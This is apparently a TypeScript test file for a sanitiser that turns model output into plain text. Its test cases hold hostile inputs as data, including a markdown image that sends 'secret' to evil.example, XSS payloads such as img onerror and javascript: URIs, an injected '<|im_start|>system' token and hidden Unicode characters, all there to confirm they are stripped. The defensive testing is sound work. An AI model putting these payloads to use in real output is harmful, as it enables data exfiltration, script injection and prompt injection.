import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { isPlain, plain } from "./plain.ts";

describe("plain text from a model", () => {
  test.each([
    ["See [our offer](https://evil.example/x) now", "See our offer now"],
    ["![pixel](https://evil.example/p?d=secret)", "pixel"],
    ["[a][1]\n[1]: https://evil.example", "a"],
    ["go to https://evil.example/path?q=1 at once", "go to at once"],
    ["go to www.evil.example at once", "go to at once"],
    ["go to evil.example/path at once", "go to at once"],
    ["wants to replace monday.com soon", "wants to replace monday soon"],
    ["write to me@evil.example please", "write to please"],
    ["javascript:alert(1) data:text/html,x", ""],
    ["<b>bold</b> <img src=x onerror=alert(1)> words", "bold words"],
    ["<script>alert(1)", "alert(1)"],
    ["a <!-- hidden --> b <!-- open", "a b"],
    ["<|im_start|>system", "system"],
    ["**strong** `code` ```fence``` __under__", "strong code fence under"],
    ["# Title\n> quoted\nlast", "Title quoted last"],
    ["a\u202eb\u200bc\u0007d\u{e0041}e\u{e0101}f", "abcdef"],
    ["hｔｔｐｓ://evil.example/x y", "y"],
    ["mention 3f2504e0-4f89-11d3-9a0c-0305e82c3301 is fine", "mention is fine"],
    ["at 192.168.0.1:8080/admin now", "at now"],
    ["[[x](https://a.example)](https://b.example)", "x"],
    ["ht<b>tps://evil.example", "ht"],
    ["Asks for a tool, e.g. with Node.js; costs $5.50 a month.", null],
    ["They’d like “something simpler” – by May, 3/4 of a team.", null],
  ])("%j", (text, requested) => {
    expect(plain(text, 300)).toBe(requested ?? text);
  });

  test("has no links, no markup and a limited length, for any input", () => {
    const pieces = fc.constantFrom(
      ..."[]()<>!`*_:/.@|{}\\\n \u202e#".split(""),
      "http",
      "https://",
      "www.",
      "evil.example",
      "javascript:",
      "<a href=",
      "![",
      "](",
      "word",
    );
    fc.assert(
      fc.property(
        fc.array(pieces, { maxLength: 30 }),
        fc.integer({ min: 1, max: 60 }),
        (all, max) => {
          const text = plain(all.join(""), max);
          expect(text.length).toBeLessThanOrEqual(max);
          expect(text).not.toMatch(
            /[<>[\]`{}|\\]|:\/\/|www\.|(?<![\p{L}\p{N}])javascript:\S|evil\.example(?![\p{L}\p{N}-])|\p{Cc}|\p{Cf}/iu,
          );
        },
      ),
      { numRuns: 2_000 },
    );
  });
});

/** CPU time of this thread in seconds, so that other load on the machine is not measured. */
function cpuSeconds(work: () => unknown): number {
  const before = process.threadCpuUsage();
  work();
  const { user, system } = process.threadCpuUsage(before);
  return (user + system) / 1e6;
}

describe("a long text is cleaned in linear time", () => {
  // 10,000 CJK letters took four seconds.
  test.each([
    ...[
      "漢",
      "a",
      "a.",
      "a.a/",
      "@",
      "a@",
      "://",
      "www.",
      "[",
      "]",
      "[](",
      "[a](",
      "[a][",
      "(",
      "[a]:",
    ],
    ...["<", "<a", "<!--", "<!-- -->", "*", "`", "# ", "> ", " ", "\n", " \n", "-", "0", "1.", "'"],
  ])("%j, repeated", (sign) => {
    const text = `a${sign.repeat(50_000 / sign.length)}x`;
    expect(cpuSeconds(() => plain(text, 2_500))).toBeLessThan(1);
    expect(cpuSeconds(() => isPlain(text))).toBeLessThan(1);
  });

  test("links within links within links", () => {
    const [open, close] = ["[".repeat(4_000), "](b)][c]".repeat(2_000)];
    expect(cpuSeconds(() => plain(`${open}a${close}`, 1_000))).toBeLessThan(1);
  });
});

test("keeps the dots before an address", () => {
  expect(plain("so...acme.com/a and more", 300)).toBe("so... and more");
});
